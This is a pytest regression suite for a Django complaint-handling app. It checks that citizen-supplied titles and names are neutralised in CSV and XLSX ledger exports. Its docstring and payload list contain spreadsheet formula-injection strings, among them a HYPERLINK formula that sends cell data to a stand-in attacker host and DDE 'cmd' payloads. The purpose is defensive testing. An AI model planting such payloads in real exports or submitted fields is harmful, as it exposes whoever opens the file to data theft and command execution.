"""A citizen's title, complainee or name never runs as a formula in the ledger.

The attack: a complaint submitted through the public API with the title
`=HYPERLINK("http://evil.example/?x="&A1,"点击")` was written raw into the CSV
ledger, and ran when a supervisor opened the file. CSV cells that start like a
formula now carry a leading quote; the XLSX ledger keeps them as text cells.
"""

import csv
import io

import pytest
from django.core.management import call_command
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from cases import ledger
from cases.models import Case
from tests.cases.helpers import SUBMIT_URL, complaint_payload

pytestmark = pytest.mark.django_db

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点击")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '＝HYPERLINK("http://evil.example/")',
    "＋1+cmd|' /C calc'!A0",
    "－1+cmd|' /C calc'!A0",
    "＠SUM(1+1)*cmd|' /C calc'!A0",
]


def _submit(api_client, department, *, title, complainee, name) -> Case:
    response = api_client.post(
        SUBMIT_URL,
        complaint_payload(
            department,
            title=f"{title}噪音投诉",
            complainee=complainee,
            contact_name=name,
        ),
        format="json",
    )
    assert response.status_code == 201, response.content
    return Case.objects.get(number=response.json()["number"])


def _csv_rows(client) -> list[dict]:
    response = client.post(
        reverse("admin:cases_case_export"),
        {"ledger": "complaint", "file_format": "csv"},
    )
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_formula_in_a_citizens_text_is_only_text_in_the_csv_ledger(
    api_client, login, officer_a, department_a, payload
):
    _submit(api_client, department_a, title=payload, complainee=payload, name=payload)

    [row] = _csv_rows(login(officer_a))

    assert row["标题"] == f"'{payload}噪音投诉"
    assert row["被投诉/举报对象"] == f"'{payload}"
    assert row["投诉人"] == f"'{payload}"


def test_ordinary_text_and_phone_numbers_are_written_unchanged(
    api_client, login, officer_a, department_a
):
    _submit(
        api_client, department_a, title="夜间施工", complainee="东城工地", name="王小明"
    )

    [row] = _csv_rows(login(officer_a))

    assert (row["标题"], row["被投诉/举报对象"]) == ("夜间施工噪音投诉", "东城工地")
    assert (row["投诉人"], row["联系电话"]) == ("王小明", "13812345678")


@pytest.mark.parametrize("start", ["\t", "\r"])
def test_a_tab_or_carriage_return_before_a_formula_is_neutralised(start):
    chunks = ledger.csv_chunks(
        kind="complaint",
        rows=[[f"{start}=1+1", "正文", "-12.5"] + [""] * 19],
    )
    rows = list(csv.reader(io.StringIO("".join(chunks).lstrip("\ufeff"))))

    assert rows[1][:3] == [f"'{start}=1+1", "正文", "-12.5"]


def test_the_export_ledger_command_writes_the_same_safe_csv(
    api_client, department_a, tmp_path
):
    payload = PAYLOADS[0]
    case = _submit(
        api_client, department_a, title=payload, complainee="工地", name="王"
    )
    target = tmp_path / "ledger.csv"
    day = f"{timezone.localdate(case.submitted_at):%Y-%m-%d}"

    call_command(
        "export_ledger", "--from", day, "--to", day, "--format", "csv",
        "-o", str(target), stdout=io.StringIO(),
    )  # fmt: skip

    rows = list(csv.reader(io.StringIO(target.read_text("utf-8-sig"))))
    assert rows[1][rows[0].index("标题")] == f"'{payload}噪音投诉"


@pytest.mark.parametrize("payload", PAYLOADS[:3])
def test_a_formula_looking_title_is_a_text_cell_in_the_xlsx_ledger(
    api_client, login, officer_a, department_a, payload
):
    _submit(api_client, department_a, title=payload, complainee=payload, name="王")

    response = login(officer_a).post(
        reverse("admin:cases_case_export"),
        {"ledger": "complaint", "file_format": "xlsx"},
    )

    sheet = load_workbook(io.BytesIO(response.content)).active
    header = [cell.value for cell in sheet[3]]
    title = sheet.cell(row=4, column=header.index("标题") + 1)
    complainee = sheet.cell(row=4, column=header.index("被投诉/举报对象") + 1)
    # Text exactly as typed, in a string cell: no quote needed, nothing evaluated.
    assert (title.data_type, title.value) == ("s", f"{payload}噪音投诉")
    assert (complainee.data_type, complainee.value) == ("s", payload)


# XlsxWriter copies a string shaped like its rich-text markup into the XML as it
# is: one such title made the whole workbook unreadable (Excel: "We found a
# problem with some content"; openpyxl: ParseError).
MARKUP = "<r></is></c></row><x></r>"


def test_a_title_shaped_like_workbook_markup_is_only_text_in_the_xlsx_ledger(
    login, supervisor, department_a, settings, tmp_path
):
    from cases import services
    from tests.cases.helpers import submit_case

    case = submit_case(department=department_a, kind="complaint", title=MARKUP).case
    client = login(supervisor)
    at_once = client.post(
        reverse("admin:cases_case_export"),
        {"ledger": "complaint", "file_format": "xlsx"},
    )
    settings.LEDGER_SYNC_MAX_ROWS, settings.LEDGER_EXPORT_ROOT = 0, tmp_path
    queued = services.ledger_export_start(
        user=supervisor,
        cases=Case.objects.filter(pk=case.pk),
        kind="complaint",
        file_format="xlsx",
        filters={},
    )
    services.export_ledger_file.call(export_id=queued.pk)
    queued.refresh_from_db()

    for workbook in (  # written in memory, and in constant-memory mode to disk
        load_workbook(io.BytesIO(at_once.content)),
        load_workbook(tmp_path / queued.file_name),
    ):
        sheet = workbook.active
        header = [cell.value for cell in sheet[3]]
        assert sheet.cell(row=4, column=header.index("标题") + 1).value == MARKUP
